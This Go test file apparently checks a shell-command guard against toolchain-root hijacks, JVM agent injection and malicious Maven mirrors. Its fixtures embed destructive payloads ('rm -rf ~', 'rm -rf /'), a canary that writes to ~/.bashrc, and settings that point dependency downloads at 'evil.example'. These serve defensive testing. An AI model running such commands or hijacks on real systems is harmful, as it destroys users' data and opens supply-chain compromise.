package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestToolRoots (red team 18 TR1): a toolchain's root variable names the
// directory its launcher runs the toolchain's programs from — GOROOT's
// pkg/tool/*/compile for go build, JAVA_HOME's bin/java for mvn, gradle,
// ant, CARGO_HOME's bin/cargo-NAME for cargo NAME, GEM_HOME's and
// GEM_PATH's plugins/*_plugin.rb for gem, GRADLE_USER_HOME's init.d
// scripts (and -g, -I) for gradle — and each is read as a program found
// through PATH is: a script judged as if typed, a binary in the project
// asked about. Look-alikes: the system's roots, a binary toolchain
// outside the project, what the launcher reports as its own root,
// subcommands that run no tool, GOTOOLDIR (go does not read it), the
// variable given to a program that does not read it.
func TestToolRoots(t *testing.T) {
	t.Parallel()
	evil := "#!/bin/sh\nrm -rf ~\n"
	cfg := scratchProject(t, map[string]string{
		"jh/bin/java":                           evil,
		"fakeroot/pkg/tool/linux_amd64/compile": evil,
		"fakeroot/pkg/tool/linux_amd64/link":    "\x7fELF....",
		"fakeroot/bin/gofmt":                    evil,
		"binroot/bin/java":                      "\x7fELF....",
		"gobin/pkg/tool/linux_amd64/compile":    "\x7fELF....",
		"ch/bin/cargo-evil":                     evil,
		"gh/plugins/x_plugin.rb":                "system(\"rm -rf ~\")\n",
		"gu/init.d/x.gradle":                    "\"rm -rf /\".execute()\n",
		"ok/init.d/x.gradle":                    "allprojects { repositories { mavenCentral() } }\n",
		"proj/jdk/bin/java":                     "\x7fELF....",
		"proj/gr/pkg/tool/linux_amd64/compile":  "\x7fELF....",
		"proj/pom.xml":                          "<project/>\n",
		"rh/settings.toml":                      "version = \"12\"\ndefault_toolchain = \"stable-x86_64-unknown-linux-gnu\"\n",
		"rh/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo": evil,
		"rb/settings.toml": "version = \"12\"\ndefault_toolchain = \"stable-x86_64-unknown-linux-gnu\"\n",
		"rb/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo": "\x7fELF....",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"GOROOT=../fakeroot go build .", "deny"},
		{"export GOROOT=$PWD/../fakeroot; go test ./...", "deny"},
		{"GOROOT=../fakeroot go vet ./...", "deny"},
		{"env GOROOT=../fakeroot go fmt ./...", "deny"},
		{"JAVA_HOME=../jh mvn -v", "deny"},
		{"export JAVA_HOME=$PWD/../jh; mvn -q test", "deny"},
		{"JAVA_HOME=../jh ./gradlew build", "deny"},
		{"JAVA_HOME=../jh ant compile", "deny"},
		{"JAVACMD=../jh/bin/java ant compile", "deny"},
		{"PATH=$PWD/../jh/bin:$PATH mvn -v", "deny"},
		{"CARGO_HOME=../ch cargo evil", "deny"},
		{"RUSTUP_HOME=$PWD/../rh cargo build", "deny"},
		{"export RUSTUP_HOME=$PWD/../rh; cargo +stable test", "deny"},
		{"GEM_HOME=../gh gem list", "deny"},
		{"GEM_PATH=/var/lib/gems/3.1.0:../gh gem env", "deny"},
		{"GRADLE_USER_HOME=../gu gradle build", "deny"},
		{"gradle -g ../gu tasks", "deny"},
		{"gradle --init-script ../gu/init.d/x.gradle build", "deny"},
		{"mkdir -p j2/bin && printf '#!/bin/sh\\nrm -rf ~\\n' > j2/bin/java && JAVA_HOME=j2 mvn -v", "deny"},
		{"JAVA_HOME=jdk mvn test", "ask"},
		{"GOROOT=gr go build", "ask"},
		{"JAVA_HOME=$(cat f) mvn -v", "ask"},
		{"GOROOT=\"$(cat f)\" go build", "ask"},
		{"export GOROOT=\"$(go env GOROOT)\"; export GOROOT=$(cat f); go build", "ask"},
		{"export JAVA_HOME=$(/usr/libexec/java_home; cat f); mvn test", "ask"},
		// Look-alikes.
		{"JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64 mvn test", "allow"},
		{"JAVA_HOME=../binroot mvn test", "allow"},
		{"GOROOT=../gobin go build", "allow"},
		{"GOROOT=$(go env GOROOT) go build", "allow"},
		{"GOROOT=\"$(go env GOROOT)\" go test ./...", "allow"},
		{"export GOROOT=\"$(go env GOROOT)\"; go build ./...", "allow"},
		{"export JAVA_HOME=$(/usr/libexec/java_home -v 17); mvn test", "allow"},
		{"JAVA_HOME=$(/usr/libexec/java_home -v 17) mvn test", "allow"},
		{"GOROOT=/usr/local/go go build", "allow"},
		{"GOROOT=../fakeroot go version", "allow"},
		{"GOROOT=../fakeroot go env GOPATH", "allow"},
		{"GOTOOLDIR=../fakeroot/pkg/tool/linux_amd64 go build", "allow"},
		{"JAVA_HOME=../jh ls", "allow"},
		{"CARGO_HOME=../ch cargo build", "allow"},
		{"RUSTUP_HOME=$PWD/../rb cargo build", "allow"},
		{"RUSTUP_HOME=$PWD/../rh cargo +nightly build", "allow"},
		{"GEM_HOME=../gh ruby -e 'puts 1'", "allow"},
		{"GEM_HOME=../ok gem list", "allow"},
		{"GRADLE_USER_HOME=../ok gradle build", "allow"},
		{"JAVACMD=/usr/bin/java ant compile", "allow"},
	})
}

// TestJVMLauncherOptions: the JVM build tools' launchers hand their JVM
// the options of MAVEN_OPTS (and the project's .mvn/jvm.config),
// GRADLE_OPTS/JAVA_OPTS, ANT_OPTS, SBT_OPTS (and .jvmopts): an agent
// there is judged as one in JAVA_TOOL_OPTIONS. Look-alikes: memory and
// property options, a system agent, the variable given to a program that
// does not read it.
func TestJVMLauncherOptions(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/a.jar":              "PK\x03\x04....",
		"proj/m/a.jar":            "PK\x03\x04....", // ../a.jar from m/sub, the JVM's working directory
		"a.jar":                   "PK\x03\x04....", // ../a.jar from the project (mvn -f m/pom.xml)
		"proj/m/.mvn/jvm.config":  "-Xmx1g\n-javaagent:../a.jar\n",
		"proj/m/pom.xml":          "<project/>\n",
		"proj/m/sub/pom.xml":      "<project/>\n",
		"proj/ok/.mvn/jvm.config": "-Xmx2g -Dfile.encoding=UTF-8\n",
		"proj/ok/pom.xml":         "<project/>\n",
		"proj/s/.jvmopts":         "-javaagent:../a.jar\n",
		"proj/s/build.sbt":        "\n",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"MAVEN_OPTS=-javaagent:a.jar mvn -v", "ask"},
		{"export MAVEN_OPTS='-Xmx1g -javaagent:a.jar'; ./mvnw test", "ask"},
		{"GRADLE_OPTS=-javaagent:a.jar gradle build", "ask"},
		{"JAVA_OPTS=-javaagent:a.jar ./gradlew build", "ask"},
		{"ANT_OPTS=-javaagent:a.jar ant", "ask"},
		{"SBT_OPTS=-javaagent:a.jar sbt compile", "ask"},
		{"MAVEN_OPTS=$(cat f) mvn test", "ask"},
		{"cd m && mvn -q test", "ask"},
		{"cd m/sub && mvn -q test", "ask"},
		{"mvn -f m/pom.xml test", "ask"},
		{"cd s && sbt compile", "ask"},
		// Look-alikes.
		{"MAVEN_OPTS=-Xmx2g mvn test", "allow"},
		{"MAVEN_OPTS=-javaagent:/usr/share/java/jacoco.jar mvn test", "allow"},
		{"cd ok && mvn -q test", "allow"},
		{"JAVA_OPTS=-javaagent:a.jar ls", "allow"},
		{"ANT_OPTS=-javaagent:a.jar mvn -v", "allow"},
	})
}

// jvmLauncherCases: the real mvn hands its JVM MAVEN_OPTS and the
// project's .mvn/jvm.config, whose -agentpath loads the project's x.so
// (its constructor creates {home}/made); corral asks. Memory options
// pass.
var jvmLauncherCases = []libCase{
	{name: "maven-opts", prog: "mvn", cmd: `MAVEN_OPTS="-agentpath:$PWD/x.so" mvn -v`, want: Ask, lib: true, made: "made"},
	{name: "jvm-config", prog: "mvn", cmd: `mkdir -p .mvn && printf -- '-agentpath:%s/x.so\n' "$PWD" > .mvn/jvm.config && mvn -v`, want: Ask, lib: true, made: "made"},
	{name: "maven-opts-memory", prog: "mvn", cmd: `MAVEN_OPTS=-Xmx256m mvn -v`, want: Allow, lib: true},
}

func TestJVMLauncherOptionsOracle(t *testing.T) {
	if testing.Short() {
		t.Skip("runs mvn")
	}
	for _, tc := range jvmLauncherCases {
		t.Run(tc.name, func(t *testing.T) { runLibCase(t, tc) })
	}
}

// TestToolRootsOracle runs the real go, mvn, gem and cargo where
// installed with the root pointing at a scratch directory whose program
// (or plugin) appends to a scratch ~/.bashrc: each launcher really runs
// it, and corral denies the command for that write. The look-alikes run
// nothing from the root and pass.
func TestToolRootsOracle(t *testing.T) {
	if testing.Short() {
		t.Skip("runs go, mvn, gem, cargo")
	}
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	project := filepath.Join(dir, "project")
	bashrc := filepath.Join(home, ".bashrc")
	write := func(p, text string, mode os.FileMode) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), mode); err != nil {
			t.Fatal(err)
		}
	}
	canary := "#!/bin/sh\necho pwned >> \"$HOME/.bashrc\"\nexit 1\n"
	write(filepath.Join(project, "go.mod"), "module m\n\ngo 1.21\n", 0o644)
	write(filepath.Join(project, "main.go"), "package main\n\nfunc main() {}\n", 0o644)
	write(filepath.Join(dir, "jh", "bin", "java"), canary, 0o755)
	write(filepath.Join(dir, "ch", "bin", "cargo-zzz"), canary, 0o755)
	write(filepath.Join(dir, "rh", "settings.toml"), "version = \"12\"\ndefault_toolchain = \"stable-x86_64-unknown-linux-gnu\"\n", 0o644)
	write(filepath.Join(dir, "rh", "toolchains", "stable-x86_64-unknown-linux-gnu", "bin", "cargo"), canary, 0o755)
	write(filepath.Join(dir, "gh", "plugins", "x_plugin.rb"), "system(\"echo pwned >> ~/.bashrc\")\n", 0o644)
	// A GOROOT that is the real one except for its compiler.
	fake := filepath.Join(dir, "goroot")
	if goBin, err := exec.LookPath("go"); err == nil {
		out, err := exec.Command(goBin, "env", "GOROOT").Output()
		real := strings.TrimSpace(string(out))
		if err == nil && real != "" {
			link := func(from, to string) {
				entries, _ := os.ReadDir(from)
				for _, e := range entries {
					if e.Name() == "pkg" && from == real || e.Name() == "tool" && from == filepath.Join(real, "pkg") {
						continue
					}
					if err := os.MkdirAll(to, 0o755); err != nil {
						t.Fatal(err)
					}
					if err := os.Symlink(filepath.Join(from, e.Name()), filepath.Join(to, e.Name())); err != nil {
						t.Fatal(err)
					}
				}
			}
			link(real, fake)
			link(filepath.Join(real, "pkg"), filepath.Join(fake, "pkg"))
			tools, _ := filepath.Glob(filepath.Join(real, "pkg", "tool", "*"))
			for _, td := range tools {
				to := filepath.Join(fake, "pkg", "tool", filepath.Base(td))
				entries, _ := os.ReadDir(td)
				for _, e := range entries {
					if e.Name() == "compile" {
						write(filepath.Join(to, "compile"), canary, 0o755)
						continue
					}
					if err := os.MkdirAll(to, 0o755); err != nil {
						t.Fatal(err)
					}
					if err := os.Symlink(filepath.Join(td, e.Name()), filepath.Join(to, e.Name())); err != nil {
						t.Fatal(err)
					}
				}
			}
		}
	}
	env := map[string]string{"HOME": home, EnvProject: project}
	cfg, _ := NewConfig(func(k string) string { return env[k] }, project)
	rustupHome := os.Getenv("RUSTUP_HOME")
	if rustupHome == "" {
		if h, err := os.UserHomeDir(); err == nil {
			rustupHome = filepath.Join(h, ".rustup")
		}
	}
	cache := filepath.Join(dir, "cache")
	for _, tc := range []struct {
		prog, cmd string
		want      Decision
		ran       bool
	}{
		{"go", "GOROOT=" + fake + " go build -o /dev/null .", Deny, true},
		{"go", "GOROOT=" + fake + " go vet .", Deny, true},
		{"mvn", "JAVA_HOME=" + filepath.Join(dir, "jh") + " mvn -v", Deny, true},
		{"gem", "GEM_HOME=" + filepath.Join(dir, "gh") + " gem list", Deny, true},
		{"gem", "GEM_PATH=" + filepath.Join(dir, "gh") + " gem env", Deny, true},
		{"cargo", "CARGO_HOME=" + filepath.Join(dir, "ch") + " cargo zzz", Deny, true},
		{"cargo", "RUSTUP_HOME=" + filepath.Join(dir, "rh") + " cargo build", Deny, true},
		// Look-alikes.
		{"go", "GOROOT=" + fake + " go version", Allow, false},
		{"go", "GOTOOLDIR=" + filepath.Join(fake, "pkg", "tool", "linux_amd64") + " go build -o /dev/null .", Allow, false},
		{"gem", "GEM_HOME=" + filepath.Join(dir, "gh") + " ruby -e 'puts 1'", Allow, false},
		{"cargo", "CARGO_HOME=" + filepath.Join(dir, "ch") + " cargo version", Allow, false},
	} {
		if _, err := exec.LookPath(tc.prog); err != nil {
			continue
		}
		if tc.prog == "go" && !strings.Contains(tc.cmd, "GOTOOLDIR") {
			if _, err := os.Stat(filepath.Join(fake, "pkg")); err != nil {
				continue
			}
		}
		res := Check(cfg, tc.cmd)
		if res.Decision != tc.want {
			t.Errorf("%s: decision %s, want %s (%+v)", tc.cmd, res.Decision, tc.want, res.Findings)
		}
		write(bashrc, "# canary\n", 0o644)
		run := exec.Command("bash", "-c", tc.cmd)
		run.Dir = project
		run.Env = append(os.Environ(), "HOME="+home, "GOCACHE="+cache, "GOFLAGS=", "GOPROXY=off", "GOTELEMETRY=off",
			"XDG_CONFIG_HOME="+filepath.Join(dir, "cfg"), "RUSTUP_HOME="+rustupHome, "GEM_SPEC_CACHE="+filepath.Join(dir, "specs"))
		done := make(chan struct{})
		var out []byte
		go func() { out, _ = run.CombinedOutput(); close(done) }()
		select {
		case <-done:
		case <-time.After(120 * time.Second):
			_ = run.Process.Kill()
			<-done
			t.Fatalf("did not finish: %s", tc.cmd)
		}
		b, _ := os.ReadFile(bashrc)
		if ran := strings.Contains(string(b), "pwned"); ran != tc.ran {
			t.Errorf("%s: ran the root's program = %v, want %v\n%s", tc.cmd, ran, tc.ran, out)
		}
	}
}

// TestMavenArgsAndSettings (issue 12, class 4): mvn takes options from
// .mvn/maven.config and MAVEN_ARGS as from its command line, and the
// settings -s/--settings and -gs/--global-settings name decide where
// every dependency and plugin is downloaded from: a mirror or repository
// url off Maven Central there asks, as the same settings written into
// ~/.m2/settings.xml do; -Dmaven.ext.class.path loads jars into Maven's
// core as an agent is loaded. Look-alikes: settings without a mirror,
// the user's own mirror (already in ~/.m2/settings.xml), Maven Central,
// file:// repositories, a maven.config of ordinary options.
func TestMavenArgsAndSettings(t *testing.T) {
	t.Parallel()
	mirror := func(u string) string {
		return "<settings><mirrors><mirror><id>m</id><mirrorOf>*</mirrorOf><url>" + u + "</url></mirror></mirrors></settings>\n"
	}
	cfg := scratchProject(t, map[string]string{
		"home/.m2/settings.xml":      mirror("https://nexus.corp.example/repository/maven-public"),
		"proj/evil.xml":              mirror("https://evil.example/m2"),
		"proj/profile.xml":           "<settings><profiles><profile><repositories><repository><url>http://evil.example/r</url></repository></repositories></profile></profiles></settings>\n",
		"proj/corp.xml":              mirror("https://nexus.corp.example/repository/maven-public"),
		"proj/central.xml":           mirror("https://repo.maven.apache.org/maven2"),
		"proj/local.xml":             mirror("file:///srv/m2"),
		"proj/plain.xml":             "<settings><localRepository>/tmp/r</localRepository></settings>\n",
		"proj/pom.xml":               "<project/>\n",
		"proj/c/.mvn/maven.config":   "-s\n../evil.xml\n",
		"proj/c/pom.xml":             "<project/>\n",
		"proj/ok/.mvn/maven.config":  "-T 1C\n-Dstyle.color=always\n--no-transfer-progress\n",
		"proj/ok/pom.xml":            "<project/>\n",
		"proj/ext/.mvn/maven.config": "-Dmaven.ext.class.path=../ext.jar\n",
		"proj/ext/pom.xml":           "<project/>\n",
		"proj/ext.jar":               "PK\x03\x04....",
	})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"mvn -s evil.xml package", "ask"},
		{"mvn --settings=evil.xml package", "ask"},
		{"mvn -sevil.xml package", "ask"},
		{"mvn -gs evil.xml package", "ask"},
		{"./mvnw --global-settings evil.xml verify", "ask"},
		{"mvn -s profile.xml package", "ask"},
		{"mvn -s \"$S\" package", "ask"},
		{"printf '<settings><mirrors><mirror><url>https://evil.example/m2</url></mirror></mirrors></settings>' > s.xml && mvn -s s.xml package", "ask"},
		{"MAVEN_ARGS='-s evil.xml' mvn package", "ask"},
		{"export MAVEN_ARGS='-q -gs evil.xml'; mvn package", "ask"},
		{"MAVEN_ARGS=$(cat f) mvn package", "ask"},
		{"cd c && mvn package", "ask"},
		{"mkdir -p .mvn && echo '-s evil.xml' > .mvn/maven.config && mvn package", "ask"},
		{"mvn -Dmaven.ext.class.path=ext.jar package", "ask"},
		{"cd ext && mvn package", "ask"},
		// Look-alikes.
		{"mvn -s plain.xml package", "allow"},
		{"mvn -s corp.xml package", "allow"},
		{"mvn -s central.xml package", "allow"},
		{"mvn -s local.xml package", "allow"},
		{"cd ok && mvn package", "allow"},
		{"MAVEN_ARGS='-T 4 -q' mvn package", "allow"},
		{"mvn -Dmaven.test.skip=true package", "allow"},
		{"cat evil.xml", "allow"},
	})
}
